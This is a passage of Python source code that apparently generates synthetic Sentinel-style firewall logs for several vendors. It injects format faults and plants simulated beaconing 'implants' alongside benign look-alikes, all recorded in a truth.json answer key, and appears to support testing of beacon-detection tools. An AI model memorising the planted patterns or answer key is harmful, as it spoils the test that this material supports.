    def __init__(self, fragments: str, columns: dict[str, str]) -> None:
        text = json.dumps(
            {
                "TenantId": "5f0c6c8a-0b0e-4b3a-9f0e-3b7e6c1d2a10",
                "SourceSystem": "OpsManager",
                "TimeGenerated": "%(second)s.%(fraction)07dZ",
                **columns,
                "FlexString1": "",
                "FlexString2": "",
                "Type": "CommonSecurityLog",
                "_ResourceId": "",
                "_ItemId": "%(id_1)08x-%(id_2)04x-4%(id_3)03x-a%(id_4)03x-%(id_5)012x",
            },
            separators=(",", ":"),
        )
        text = re.sub(r'"%\((\w+)\)d"', r"%(\1)d", text)
        text = "{" + "".join(f"%({name})s" for name in fragments.split()) + text[1:]
        self._names = re.findall(r"%\((\w+)\)", text)
        self._positional = re.sub(r"%\(\w+\)", "%", text)  # far faster than with names

    def lines(self, values: dict[str, Sequence[Any]]) -> Iterator[str]:
        """Fill in the values, one of each name a line."""
        return map(
            self._positional.__mod__, zip(*(values[name] for name in self._names), strict=True)
        )


_SIZES = {"ReceivedBytes": "%(received)d", "SentBytes": "%(sent)d"}
_FORTINET = Template(
    "gateway event source source_port destination service path",
    _SIZES
    | {
        "ExternalID": "%(session)d",
        "ReceiptTime": "%(epoch_ms)s",
        "AdditionalExtensions": "%(event_extension)s;FTNTFGTlevel=notice;FTNTFGTvd=root;"
        "FTNTFGTeventtime=%(epoch_ns)d;FTNTFGTtz=+0000;%(path_extension)s;FTNTFGTdstcountry="
        "%(country)s;FTNTFGTpolicytype=policy;FTNTFGTduration=%(duration)d;FTNTFGTsentpkt="
        "%(sent_packets)d;FTNTFGTrcvdpkt=%(received_packets)d;FTNTFGTappcat=%(category)s;"
        "FTNTFGTapprisk=elevated;FTNTFGTutmaction=allow;FTNTFGTcountapp=1;FTNTFGTosname=Windows;"
        "FTNTFGTdevtype=Windows PC;FTNTFGTsrcserver=0",
    },
)
_FORTINET_UTM = Template(
    "gateway event source source_port destination service path",
    {
        "Message": "Web.Client: HTTPS.BROWSER,",
        "RequestURL": "https://%(name)s/",
        "ExternalID": "%(session)d",
        "ReceiptTime": "%(epoch_ms)s",
        "AdditionalExtensions": "FTNTFGTlogid=1059028704;cat=utm:app-ctrl;FTNTFGTsubtype=app-ctrl;"
        "FTNTFGTeventtype=signature;FTNTFGTlevel=information;FTNTFGTvd=root;FTNTFGTeventtime="
        "%(epoch_ns)d;FTNTFGTtz=+0000;%(path_extension)s;FTNTFGTappid=40568;FTNTFGTapp="
        "HTTPS.BROWSER;FTNTFGTappcat=Web.Client;FTNTFGTapprisk=medium;FTNTFGTincidentserialno="
        "%(session)d;FTNTFGTapplist=default;FTNTFGTscertcname=*.example;FTNTFGTdirection=outgoing",
    },
)
_PAN = Template(
    "gateway event source source_port destination service sizes",
    {
        "DeviceCustomString1": "trust-to-untrust",
        "DeviceCustomString1Label": "Rule",
        "DeviceCustomString4": "trust",
        "DeviceCustomString4Label": "Source Zone",
        "DeviceCustomString6": "log-to-sentinel",
        "DeviceCustomString6Label": "LogProfile",
        "DeviceCustomNumber1": "%(session)d",
        "DeviceCustomNumber1Label": "SessionID",
        "DeviceCustomNumber3": "%(duration)d",
        "DeviceCustomNumber3Label": "Elapsed time in seconds",
        "ReceiptTime": "%(epoch_ms)s",
        "AdditionalExtensions": "reason=%(reason)s;PanOSDGl1=12;PanOSDGl2=22;PanOSVsysName=vsys1;"
        "PanOSPacketsReceived=%(received_packets)d;PanOSPacketsSent=%(sent_packets)d;"
        "PanOSActionFlags=0x8000000000000000;PanOSDestinationCountry=%(country)s;"
        "PanOSSessionStartTime=%(epoch_ms)d;PanOSTunnelID=0;PanOSParentSessionID=0;"
        "PanOSRuleUUID=6b1b0d6e-7a31-4d2c-9a55-0f3a8d7b21c4;PanOSHTTP2Con=0",
    },
)
_CHECK_POINT = Template(
    "gateway event source source_port destination service sizes",
    {
        "DeviceCustomString2": "lan to internet",
        "DeviceCustomString2Label": "Rule Name",
        "DeviceCustomNumber1": "%(duration)d",
        "DeviceCustomNumber1Label": "Elapsed Time in Seconds",
        "ReceiptTime": "%(epoch_ms)s",
        "AdditionalExtensions": "flags=411908;ifdir=inbound;ifname=eth1;loguid={0x%(id_1)08x,"
        "0x%(id_2)04x,0xa01fea0,0x%(session)08x};origin=10.1.0.5;originsicname=CN\\=cp-fw-01,"
        "O\\=mgmt..x7xvnd;sequencenum=%(small)d;version=5;dst_country=%(country)s;hll_key="
        "%(session)d;layer_name=Network;layer_uuid=0a3b9e12-5c17-4f3f-a3a7-d8c25d1a9f40;"
        "match_id=17;rule_uid=0f29d1a5-bc7d-4a45-95c3-c6a2a9a0b0f1;nat_rulenum=4;"
        "product=VPN-1 & FireWall-1;service_id=%(service_name)s;conn_direction=Outgoing;"
        "security_inzone=InternalZone;security_outzone=ExternalZone",
    },
)
_ZSCALER = Template(  # a web proxy: no ports, no protocol
    "gateway event source destination",
    _SIZES
    | {
        "ApplicationProtocol": "%(scheme)s",
        "RequestMethod": "GET",
        "RequestURL": "%(scheme)s://%(name)s/%(session)x/index.html",
        "DestinationHostName": "%(name)s",
        "RequestClientApplication": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101",
        "DestinationServiceName": "General Browsing",
        "SourceTranslatedAddress": "192.0.2.3",
        "AdditionalExtensions": "cat=Internet Services;rulelabel=Default;ruletype=URLFilter;"
        "urlclass=Business Use;urlsupercat=Internet Communication;devicemodel=Virtual Machine;"
        "appclass=General Browsing;appriskscore=%(small)d;bwthrottle=NO;contenttype=text/html;"
        "threatname=None;malwarecategory=None;pagerisk=0;ssldecrypted=Yes;clientsslcipher="
        "TLS_AES_256_GCM_SHA384;clienttlsversion=TLS1_3;location=Home Office;department=Sales;"
        "externalid=%(session)d",
    },
)


def _event(event_class: str, activity: str, action: str, simplified: str, severity: str) -> str:
    return _fragment(
        DeviceEventClassID=event_class,
        Activity=activity,
        DeviceAction=action,
        SimplifiedDeviceAction=simplified,
        LogSeverity=severity,
    )


# FortiGate: close reasons are normal ends of allowed sessions; UDP sessions end as `accept`.
_FORTINET_EVENTS = [
    ("00013", "forward", "close", "Accept"),
    ("00013", "forward", "client-rst", "Accept"),
    ("00013", "forward", "server-rst", "Accept"),
    ("00013", "forward", "timeout", "Accept"),
    ("00013", "forward", "accept", "Accept"),
    ("00013", "forward", "deny", "Deny"),
    ("00020", "forward", "accept", "Accept"),
    ("00012", "multicast", "accept", "Accept"),
    ("00014", "local", "deny", "Deny"),
]
_FORTINET_UDP, _FORTINET_DENY, _FORTINET_INTERIM, _FORTINET_MULTICAST, _FORTINET_LOCAL = range(4, 9)
_FORTINET_EVENT_TEXTS = [
    _event(event_class, f"traffic:{subtype} {action}", action, simplified, "3")
    for event_class, subtype, action, simplified in _FORTINET_EVENTS
]
_FORTINET_EXTENSIONS = [
    f"FTNTFGTlogid=00000{event_class};cat=traffic:{subtype};FTNTFGTsubtype={subtype}"
    for event_class, subtype, *_ in _FORTINET_EVENTS
]
_UTM_EVENT = _event("28704", "utm:app-ctrl signature pass", "pass", "Accept", "2")
_PATHS = (  # by direction: flow, interfaces and policy of a FortiGate
    ("1", "lan1", "wan1", "wan", 57, "lan-to-internet", "snat"),
    ("1", "lan1", "srv1", "lan", 12, "lan-to-servers", "noop"),
    ("0", "wan1", "dmz1", "dmz", 33, "internet-to-dmz", "dnat"),
    ("1", "lan1", "", "undefined", 0, "implicit", "noop"),
)
_PATH_TEXTS = [
    _fragment(
        CommunicationDirection=flow,
        DeviceInboundInterface=inbound,
        DeviceOutboundInterface=outbound,
    )
    for flow, inbound, outbound, *_ in _PATHS
]
_PATH_EXTENSIONS = [
    f"FTNTFGTsrcintfrole={inbound[:3]};FTNTFGTdstintfrole={role};FTNTFGTpolicyid={policy};"
    f"FTNTFGTpoluuid=b2c7ac4e-8f2f-51ec-a1d3-2d8bb7a1c0{policy:02d};FTNTFGTpolicyname={name};"
    f"FTNTFGTtrandisp={translation}"
    for _, inbound, _, role, policy, name, translation in _PATHS
]
# Palo Alto Networks: class, activity (in PAN-OS's order), action, simplified action, reason.
_PAN_EVENTS = {
    Log.CONNECTION: ("end", "TRAFFIC", "allow", "Accept", "tcp-fin"),
    Log.DENIED: ("deny", "TRAFFIC", "deny", "Deny", "policy-deny"),
    Log.START: ("start", "TRAFFIC", "allow", "Accept", "n/a"),
    Log.THREAT: ("url", "THREAT", "alert", "Accept", "URL-filtering(9999)"),
}
_PAN_EVENT_TEXTS = {
    Format.PAN_OS: {
        log: _event(subtype, kind, action, simplified, "3")
        for log, (subtype, kind, action, simplified, _) in _PAN_EVENTS.items()
    },
    Format.PAN_CDL: {
        log: _event(kind, subtype, action, simplified, "3")
        for log, (subtype, kind, action, simplified, _) in _PAN_EVENTS.items()
    },
}
_PRODUCTS = {
    Format.FORTINET: ("Fortigate", "v7.2.8"),
    Format.PAN_OS: ("PAN-OS", "10.2.4"),
    Format.PAN_CDL: ("LF", "2.0"),
    Format.CHECK_POINT: ("VPN-1 & FireWall-1", "Check Point"),
    Format.ZSCALER: ("NSSWeblog", "5.7"),
}
_TWO_DIGITS = [f"{second:02d}" for second in range(60)]
_COUNTRIES = ("United States", "Germany", "Netherlands", "Ireland", "Japan", "Brazil", "India")
_IS_TCP = np.array([service.protocol == 6 for service in SERVICES])


def _service_text(gateway: Gateway, service: Service) -> str:
    name = PROTOCOL_NAMES[service.protocol]
    protocol = {
        "number": str(service.protocol),
        "upper": name.upper(),
        "lower": name,
        "with service": f"{name}/{service.name}" if service.port else name,
        "none": "",
    }[gateway.protocol_style]
    port = {"DestinationPort": service.port} if service.port else {}
    app = service.app if gateway.format in _PAN_EVENT_TEXTS else service.name.upper()
    return _fragment(**port, Protocol=protocol, ApplicationProtocol=app)


def _source_text(number: int, address: str, is_client: bool) -> str:
    if not is_client:
        return _fragment(SourceIP=address)
    return _fragment(
        SourceIP=address,
        SourceHostName=f"WS-{number:05d}",
        SourceUserName=f"user{number:05d}@corp.example",
        SourceMACAddress=f"00:00:5e:00:{number // 256:02x}:{number % 256:02x}",
    )


class Renderer:
    """Turn rows into lines of JSON."""

    def __init__(self, world: World, seed: int) -> None:
        clients = len(world.clients)
        self._world = world
        self._seed = seed
        self._gateway_texts = [
            _fragment(
                DeviceVendor=gateway.vendor,
                DeviceProduct=_PRODUCTS[gateway.format][0],
                DeviceVersion=_PRODUCTS[gateway.format][1],
                DeviceName=gateway.name,
                DeviceExternalID=f"{gateway.name[:2]}100E4Q1600000{number}",
                Computer=f"cef-collector-0{number % 2 + 1}",
            )
            for number, gateway in enumerate(GATEWAYS)
        ]
        self._source_texts = [
            _source_text(number, address, number < clients)
            for number, address in enumerate(world.addresses)
        ]
        self._destination_texts = [_fragment(DestinationIP=a) for a in world.addresses]
        self._service_texts = [_service_text(g, service) for g in GATEWAYS for service in SERVICES]
        self._names = [f"site{number}.example" for number in range(len(world.addresses))]
        for number, popular in zip(world.groups["popular"].tolist(), POPULAR, strict=True):
            self._names[number] = popular.name

    def lines(
        self, rows: np.ndarray, day: dt.date, day_number: int, slot: int, ordinal: int
    ) -> list[str]:
        """Render the rows of one folder, in their order.

        Parameters
        ----------
        rows
            Rows of one five-minute slot, in order of time.
        day, day_number, slot
            The day, its number in the generated range, and the slot of the day.
        ordinal
            How many rows were rendered before; it makes each `_ItemId` unique.

        Returns
        -------
        list of str
            One JSON object a row, without a line end.
        """
        rng = np.random.default_rng([self._seed, 2, day_number, slot])
        hour, minute = slot // 12, slot % 12 * 5
        minutes = [f"{day}T{hour:02d}:{minute + n:02d}:" for n in range(SLOT_SECONDS // 60)]
        seconds = [begin + second for begin in minutes for second in _TWO_DIGITS]
        midnight = dt.datetime.combine(day, dt.time(), dt.timezone.utc)
        gateway = self._world.gateway_of(rows)
        formats = GATEWAY_FORMAT[gateway]
        rendered = [""] * len(rows)
        for of_format, render in (
            (Format.FORTINET, self._fortinet),
            (Format.PAN_OS, self._pan),
            (Format.PAN_CDL, self._pan),
            (Format.CHECK_POINT, self._check_point),
            (Format.ZSCALER, self._zscaler),
        ):
            where = np.flatnonzero(formats == of_format)
            if not len(where):
                continue
            mine = rows[where]
            values = self._values(rng, mine, gateway[where], ordinal + where)
            second, fraction = np.divmod(mine["tick"] - slot * SLOT_SECONDS * TICKS, TICKS)
            epoch = int(midnight.timestamp()) * TICKS + mine["tick"]
            values["second"] = [seconds[number] for number in second.tolist()]
            values["fraction"] = fraction.tolist()
            values["epoch_ns"] = (epoch * 100).tolist()
            values["epoch_ms"] = (epoch // 10_000).tolist()
            for place, line in zip(where.tolist(), render(rng, mine, values), strict=True):
                rendered[place] = line
        return rendered

    def _values(
        self, rng: np.random.Generator, rows: np.ndarray, gateway: np.ndarray, ordinal: np.ndarray
    ) -> dict[str, Sequence[Any]]:
        """Give the values that every format has."""
        count, service = len(rows), rows["service"].tolist()
        service_text = (gateway.astype(np.int64) * len(SERVICES) + rows["service"]).tolist()
        ports, ping = rng.integers(49_152, 65_536, count).tolist(), SERVICE["ping"]
        # Odd factor modulo a power of two: no two ordinals give one id.
        unique = (ordinal.astype(np.uint64) * np.uint64(0x5DEECE66D)) & np.uint64(2**48 - 1)
        return {
            "gateway": [self._gateway_texts[n] for n in gateway.tolist()],
            "source": [self._source_texts[n] for n in rows["source"].tolist()],
            "source_port": [
                "" if n == ping else f'"SourcePort":{port},'
                for n, port in zip(service, ports, strict=True)
            ],
            "destination": [self._destination_texts[n] for n in rows["destination"].tolist()],
            "service": [self._service_texts[n] for n in service_text],
            "service_name": [SERVICES[n].name for n in service],
            "name": [self._names[n] for n in rows["destination"].tolist()],
            "country": [_COUNTRIES[n % len(_COUNTRIES)] for n in rows["destination"].tolist()],
            "sent": rows["sent"].tolist(),
            "received": rows["received"].tolist(),
            "sent_packets": (rows["sent"] // 700 + 1).tolist(),
            "received_packets": (rows["received"] // 900 + 1).tolist(),
            "session": rng.integers(10_000_000, 2_000_000_000, count).tolist(),
            "duration": rng.integers(1, 180, count).tolist(),
            "small": rng.integers(1, 100, count).tolist(),
            "id_1": rng.integers(0, 2**32, count).tolist(),
            "id_2": rng.integers(0, 2**16, count).tolist(),
            "id_3": rng.integers(0, 2**12, count).tolist(),
            "id_4": rng.integers(0, 2**12, count).tolist(),
            "id_5": unique.tolist(),
        }

    def _fortinet(
        self, rng: np.random.Generator, rows: np.ndarray, values: dict[str, Sequence[Any]]
    ) -> Iterator[str]:
        log, multicast = rows["log"], rows["direction"] == Direction.MULTICAST
        closes = np.searchsorted([0.8, 0.88, 0.96], rng.random(len(rows)))
        event = np.where(_IS_TCP[rows["service"]], closes, _FORTINET_UDP)
        event[log == Log.DENIED] = _FORTINET_DENY
        event[log == Log.INTERIM] = _FORTINET_INTERIM
        event[multicast] = _FORTINET_MULTICAST
        event[multicast & (log == Log.DENIED)] = _FORTINET_LOCAL
        interim = (log == Log.INTERIM).tolist()
        values["session"] = [  # interim rows are of one session
            777_001 if is_interim else session
            for is_interim, session in zip(interim, values["session"], strict=True)
        ]
        values["event"] = [_FORTINET_EVENT_TEXTS[n] for n in event.tolist()]
        values["event_extension"] = [_FORTINET_EXTENSIONS[n] for n in event.tolist()]
        values["path"] = [_PATH_TEXTS[n] for n in rows["direction"].tolist()]
        values["path_extension"] = [_PATH_EXTENSIONS[n] for n in rows["direction"].tolist()]
        values["category"] = [
            "Web.Client" if name in ("https", "http", "quic") else "Network.Service"
            for name in values["service_name"]
        ]
        lines = list(_FORTINET.lines(values))
        utm = np.flatnonzero(log == Log.UTM).tolist()
        if utm:
            of_utm = {name: [column[n] for n in utm] for name, column in values.items()}
            of_utm["event"] = [_UTM_EVENT] * len(utm)
            for place, line in zip(utm, _FORTINET_UTM.lines(of_utm), strict=True):
                lines[place] = line
        return iter(lines)

    def _pan(
        self, rng: np.random.Generator, rows: np.ndarray, values: dict[str, Sequence[Any]]
    ) -> Iterator[str]:
        of_format = Format(GATEWAY_FORMAT[self._world.gateway_of(rows[:1])[0]])
        texts, logs = _PAN_EVENT_TEXTS[of_format], rows["log"].tolist()
        values["event"] = [texts[log] for log in logs]
        values["reason"] = [_PAN_EVENTS[log][-1] for log in logs]
        sizes = zip(logs, values["received"], values["sent"], values["name"], strict=True)
        values["sizes"] = [
            f'"RequestURL":"https://{name}/",'
            if log == Log.THREAT
            else f'"ReceivedBytes":{received},"SentBytes":{sent},'
            for log, received, sent, name in sizes
        ]
        return _PAN.lines(values)

    def _check_point(
        self, rng: np.random.Generator, rows: np.ndarray, values: dict[str, Sequence[Any]]
    ) -> Iterator[str]:
        denied = rows["log"] == Log.DENIED
        has_bytes = (rng.random(len(rows)) < 0.3) & ~denied  # most rows have none
        sizes = zip(has_bytes.tolist(), values["received"], values["sent"], strict=True)
        values["sizes"] = [
            f'"ReceivedBytes":{received},"SentBytes":{sent},' if known else ""
            for known, received, sent in sizes
        ]
        texts = {
            (name, no): _event(
                "Log", name, *(("Drop", "Deny") if no else ("Accept", "Accept")), "5"
            )
            for name in SERVICE
            for no in (False, True)
        }
        events = zip(values["service_name"], denied.tolist(), strict=True)
        values["event"] = [texts[event] for event in events]
        return _CHECK_POINT.lines(values)

    def _zscaler(
        self, rng: np.random.Generator, rows: np.ndarray, values: dict[str, Sequence[Any]]
    ) -> Iterator[str]:
        texts = [_event(*[word] * 4, "3") for word in ("Allowed", "Blocked")]
        values["event"] = [texts[n] for n in (rows["log"] == Log.DENIED).tolist()]
        values["scheme"] = ["http" if n == "http" else "https" for n in values["service_name"]]
        return _ZSCALER.lines(values)


# -------------------------------------------------------------------------------- broken lines


def _dumps(row: dict[str, Any]) -> str:
    return json.dumps(row, separators=(",", ":"))


def _portal_date(time_generated: str, milliseconds: bool) -> str:
    """Write a time as a portal export does: `8/17/2023, 6:52:13 AM`."""
    time = dt.datetime.fromisoformat(time_generated[:26])
    fraction = f".{time.microsecond // 1000:03d}" if milliseconds else ""
    return (
        f"{time.month}/{time.day}/{time.year}, {time.hour % 12 or 12}:{time:%M:%S}{fraction} "
        f"{'AM' if time.hour < 12 else 'PM'}"
    )


def _altered(rng: np.random.Generator, kind: str, line: str) -> str | None:
    """Alter a row in the way of `kind`; None where the row has nothing to alter."""
    row = json.loads(line)
    if kind == "quoted_numbers":
        quoted = {name: str(row[name]) for name in QUOTED_COLUMNS if name in row}
        return _dumps(row | quoted) if quoted else None
    if kind.startswith("portal_date"):
        row["TimeGenerated"] = _portal_date(row["TimeGenerated"], kind.endswith("milliseconds"))
    elif kind == "missing_optional_columns":
        row = {name: value for name, value in row.items() if name not in OPTIONAL_COLUMNS}
    elif kind == "missing_needed_column":
        del row[NEEDED_COLUMNS[rng.integers(len(NEEDED_COLUMNS))]]
    elif kind == "duplicate_no_item_id":
        del row["_ItemId"]
    return _dumps(row)


def _malformed(rng: np.random.Generator, kind: str, line: str) -> bytes:
    """Make a malformed line of `kind` after the pattern of a good one."""
    if kind == "binary":
        noise = rng.integers(0, 256, rng.integers(40, 400), dtype=np.uint8).tobytes()
        return b"\x1f\x8b\x08" + noise.replace(b"\n", b"").replace(b"\r", b"")
    row = json.loads(line)
    row["_ItemId"] = "{:08x}-{:04x}-5{:03x}-a{:03x}-{:012x}".format(  # 5: no generated row has it
        *(int(rng.integers(0, top)) for top in (2**32, 2**16, 2**12, 2**12, 2**48))
    )
    if kind == "not_json":
        address = row["SourceIP"]
        texts = (
            f"CEF:0|Fortinet|Fortigate|v7.2.8|00013|traffic:forward close|3|src={address}",
            "<html><head><title>503 Service Unavailable</title></head></html>",
            f'{{"TimeGenerated":"{row["TimeGenerated"]}","SourceIP":}}',
            f"{row['TimeGenerated']} {address} connection closed",
        )
        return texts[rng.integers(len(texts))].encode()
    if kind == "hostile_text":
        column = HOSTILE_COLUMNS[rng.integers(len(HOSTILE_COLUMNS))]
        row[column] = HOSTILE_TEXTS[rng.integers(len(HOSTILE_TEXTS))]
    elif kind == "invalid_address":
        column = ADDRESS_COLUMNS[rng.integers(len(ADDRESS_COLUMNS))]
        row[column] = INVALID_ADDRESSES[rng.integers(len(INVALID_ADDRESSES))]
    elif kind == "invalid_port":
        row["DestinationPort"] = INVALID_PORTS[rng.integers(len(INVALID_PORTS))]
    elif kind == "invalid_time":
        row["TimeGenerated"] = INVALID_TIMES[rng.integers(len(INVALID_TIMES))]
    elif kind == "half_written":
        text = _dumps(row).encode()
        return text[: rng.integers(20, len(text) - 1)]
    return _dumps(row).encode()


def _damage(
    rng: np.random.Generator,
    lines: list[str],
    planted: np.ndarray,
    options: frozenset[str],
    has_next_day: bool,
    counts: Counter[str],
) -> tuple[list[bytes], list[bytes]]:
    """Put the faults that were asked for into a folder's lines; `counts` is by kind of line.

    A row gets one fault at most, so that the kinds add up to the lines.

    Returns
    -------
    tuple
        The lines of this folder, and those that go to the same folder of the next day.
    """
    kinds = [
        kind
        for kind, fault in FAULTS.items()
        if fault.option in options and fault.option not in ("malformed", "half_written")
        if has_next_day or kind != "late_next_day_folder"
    ]
    edges = np.cumsum([FAULTS[kind].rate for kind in kinds])
    drawn = np.searchsorted(edges, rng.random(len(lines)), side="right")
    kept: list[str | None] = list(lines)
    appended: list[str] = []
    next_day: list[str] = []
    for place in np.flatnonzero(drawn < len(kinds)).tolist():
        kind, line = kinds[drawn[place]], lines[place]
        if planted[place] and kind not in KEEP_PLANTED_ROWS:
            continue
        if kind == "duplicate_same_item_id":
            appended.append(line)
        elif kind.startswith("late"):
            kept[place] = None
            (appended if kind == "late_appended" else next_day).append(line)
        elif altered := _altered(rng, kind, line):
            kept[place] = altered
            if kind == "duplicate_no_item_id":
                appended.append(altered)
                counts["no_item_id"] += 1
        else:
            continue
        counts[kind] += 1

    written = [line.encode() for line in kept if line is not None]
    models = [lines[place] for place in np.flatnonzero(~planted).tolist()]
    for kind, fault in FAULTS.items():
        if fault.option == "malformed" and fault.option in options and models:
            for _ in range(rng.poisson(fault.rate * len(lines))):
                line = _malformed(rng, kind, models[rng.integers(len(models))])
                written.insert(int(rng.integers(len(written) + 1)), line)
                counts[kind] += 1
    written += [line.encode() for line in appended]
    return written, [line.encode() for line in next_day]


# ------------------------------------------------------------------------------- the whole tree


def _time_text(day: dt.date, tick: int) -> str:
    second, fraction = divmod(tick, TICKS)
    return f"{day}T{second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d}.{fraction:07d}Z"


@dataclass
class _Entry:
    """A (source, destination, service) that truth.json lists, counted from the written rows."""

    source: int
    destination: int
    service: int
    logs: tuple[Log, ...]
    text: dict[str, Any]
    events_by_day: dict[str, int] = field(default_factory=dict)
    first_time: str | None = None
    last_time: str | None = None

    def count(self, day: dt.date, rows: np.ndarray) -> None:
        mine = rows[
            (rows["source"] == self.source)
            & (rows["destination"] == self.destination)
            & (rows["service"] == self.service)
            & np.isin(rows["log"], self.logs)
        ]
        self.events_by_day[str(day)] = len(mine)
        if len(mine):
            self.first_time = self.first_time or _time_text(day, int(mine["tick"][0]))
            self.last_time = _time_text(day, int(mine["tick"][-1]))

    def as_dict(self, world: World) -> dict[str, Any]:
        service = SERVICES[self.service]
        return {
            **self.text,
            "source_ip": world.addresses[self.source],
            "destination_ip": world.addresses[self.destination],
            "destination_port": service.port,
            "protocol": PROTOCOL_NAMES[service.protocol],
            "device_vendor": GATEWAYS[world.gateway[self.source]].vendor,
            "first_time": self.first_time,
            "last_time": self.last_time,
            "events_by_day": self.events_by_day,
        }


_CONNECTIONS = (Log.CONNECTION, Log.DENIED)


def _entries(world: World) -> tuple[list[_Entry], list[_Entry]]:
    """List what truth.json promises: the implants, and what looks like one and is benign."""
    hosts, destinations = world.groups["planted_hosts"], world.groups["planted"]
    implants = [
        _Entry(
            int(hosts[number]),
            int(destinations[number]),
            SERVICE[implant.service],
            _CONNECTIONS,
            {
                "id": implant.id,
                "family": implant.family,
                "sleep_seconds": implant.sleep,
                "jitter_percent": implant.jitter_percent,
                "shortest_gap_seconds": implant.shortest_gap,
                "longest_gap_seconds": implant.longest_gap,
                "network_noise_seconds": NETWORK_NOISE_SECONDS,
                "denied": implant.denied,
                "note": implant.note,
            },
        )
        for number, implant in enumerate(IMPLANTS)
    ]
    addresses = world.groups["popular"].tolist()
    benign = [
        _Entry(
            poller.source,
            address,
            SERVICE[popular.service],
            _CONNECTIONS,
            {
                "id": f"poller_{popular.name.split('.')[0]}_{number + 1}",
                "kind": "poller",
                "interval_seconds": poller.interval,
                "note": f"polls the popular {popular.name} during its working hours",
            },
        )
        for popular, address, pollers in zip(POPULAR, addresses, world.pollers, strict=True)
        for number, poller in enumerate(pollers[:POLLERS_IN_TRUTH])
    ]
    interim = {
        "id": "interim_session",
        "kind": "interim_session",
        "interval_seconds": INTERIM_SECONDS,
        "note": "statistic rows (class 00020) of one long session: no connections",
    }
    human = {
        "id": "human_pair",
        "kind": "human_pair",
        "note": "one person's heavy use of a destination that nobody else has",
    }
    for number, logs, text in ((-2, (Log.INTERIM,), interim), (-1, _CONNECTIONS, human)):
        pair = int(hosts[number]), int(destinations[number])
        benign.append(_Entry(*pair, SERVICE["https"], logs, text))
    return implants, benign


def _prepare_folder(out: Path, overwrite: bool) -> None:
    """Make `out` ready to be written to; remove a former tree only if this program made it."""
    truth_file, tree = out / "truth.json", out / TABLE_FOLDER
    if out.exists() and not out.is_dir():
        raise GeneratorError(f"{out} is a file; name a folder for the logs.")
    if out.exists() and any(out.iterdir()):
        if not overwrite:
            raise GeneratorError(
                f"{out} is not empty. Name another folder, or give --overwrite to replace logs "
                "that this program wrote there before."
            )
        try:
            made_by = json.loads(truth_file.read_text("utf-8")).get("made_by")
        except (OSError, ValueError, AttributeError):
            made_by = None
        if made_by != MADE_BY or tree.is_symlink():
            raise GeneratorError(
                f"{out} is not empty, and its truth.json does not say that this program wrote it; "
                "--overwrite removes nothing else. Name another folder."
            )
        if tree.exists():
            shutil.rmtree(tree)
    out.mkdir(parents=True, exist_ok=True)
    # Written first, so that a tree that was left unfinished can be overwritten.
    truth_file.write_text(_truth_text({"made_by": MADE_BY, "complete": False}), "utf-8")


def _truth_text(truth: dict[str, Any]) -> str:
    return json.dumps(truth, indent=2) + "\n"


@dataclass
class _Writer:
    """Write folders, with the faults that were asked for, and count what is written."""

    root: Path
    seed: int
    options: frozenset[str]
    lines_by_kind: Counter[str] = field(default_factory=Counter)
    files_by_name: Counter[str] = field(default_factory=Counter)
    lines: int = 0
    _carried: dict[int, list[bytes]] = field(default_factory=dict)  # by slot, for the next day

    def folder(
        self,
        day: dt.date,
        day_number: int,
        slot: int,
        lines: list[str],
        planted: np.ndarray,
        has_next_day: bool,
    ) -> None:
        """Write the lines of one five-minute folder."""
        hour, minute = slot // 12, slot % 12 * 5
        folder = self.root / f"y={day:%Y}/m={day:%m}/d={day:%d}/h={hour:02d}/m={minute:02d}"
        if not self.options:
            if lines:
                self.lines += len(lines)
                folder.mkdir(parents=True)
                self._file(folder / "PT05M.json", ("\n".join(lines) + "\n").encode())
            return
        rng = np.random.default_rng([self.seed, 4, day_number, slot])
        counts = self.lines_by_kind
        written, next_day = _damage(rng, lines, planted, self.options, has_next_day, counts)
        written += self._carried.pop(slot, [])
        self._carried[slot] = next_day
        if not written:
            return
        folder.mkdir(parents=True)
        name, parts = "PT05M", [written]
        if "overflow_files" in self.options:
            name = "PT5M" if rng.random() < SHORT_NAME_RATE else name
            if rng.random() < OVERFLOW_RATE and len(written) > 1:
                cut = int(rng.integers(1, len(written)))
                parts = [written[:cut], written[cut:]]
        contents = [b"\n".join(part) + b"\n" for part in parts]
        half = FAULTS["half_written"]
        if half.option in self.options and lines and rng.random() < half.rate:
            contents[-1] += _malformed(rng, "half_written", lines[int(rng.integers(len(lines)))])
            counts["half_written"] += 1
            self.lines += 1
        for number, content in enumerate(contents):
            suffix = f"_{number}" if number else ""
            self._file(folder / f"{name}{suffix}.json", content)
        self.lines += len(written)

    def _file(self, path: Path, content: bytes) -> None:
        path.write_bytes(content)
        self.files_by_name[path.name] += 1


def _missing_day(faults: frozenset[str], days: int) -> int | None:
    if "missing_day" not in faults:
        return None
    if days < 2:
        raise GeneratorError(
            "the fault missing_day leaves a day of history out, and --days 1 has none; "
            "give --days 2 or more, or list the other faults."
        )
    return (days - 1) // 2  # never the last day


def generate(
    out: Path,
    *,
    end_date: dt.date = dt.date(2026, 9, 30),
    days: int = 4,
    rows_per_day: int = 40_000,
    seed: int = 7,
    skew: Skew = Skew.NONE,
    faults: frozenset[str] = frozenset(),
    overwrite: bool = False,
    show_progress: bool = False,
) -> dict[str, Any]:
    """Write the export tree and `truth.json` below `out`.

    Parameters
    ----------
    out
        Folder to write to; empty or absent, unless `overwrite`.
    end_date, days
        The last day (UTC) and the number of days up to it. Implants are active on the last day.
    rows_per_day
        Rows a day; implants add about 10,000 on the last day and 24 on the others.
    seed
        The same arguments and seed give the same bytes.
    skew
        Give half of the background events one source or one destination.
    faults
        Names out of `FAULT_OPTIONS`.
    overwrite
        Replace a tree that this program wrote.
    show_progress
        Draw a progress bar on standard error.

    Returns
    -------
    dict
        What truth.json holds: `parameters`; `root`, relative to `out`; `first_day`, `last_day`,
        `missing_day`; `rows` (what the firewalls logged), `lines` (what the files hold) and
        `files`; `lines_by_kind`, which adds up to `lines` and says what a reader should make of
        each kind; `rows_by_day`; `rows_by_vendor` and the same by direction and by what the row
        logs; `implants` and `benign`, one entry a connection, `protocol` by its lower-case name.

    Raises
    ------
    GeneratorError
        Where the request can not be met: too few rows, an unknown fault, a folder in use.
    OSError
        Where the disk can not be written.
    """
    if rows_per_day < MINIMUM_ROWS_PER_DAY:
        raise GeneratorError(
            f"{rows_per_day:,} rows a day are too few for the services that every day has; "
            f"give at least {MINIMUM_ROWS_PER_DAY:,}."
        )
    if unknown := sorted(faults - set(FAULT_OPTIONS)):
        raise GeneratorError(
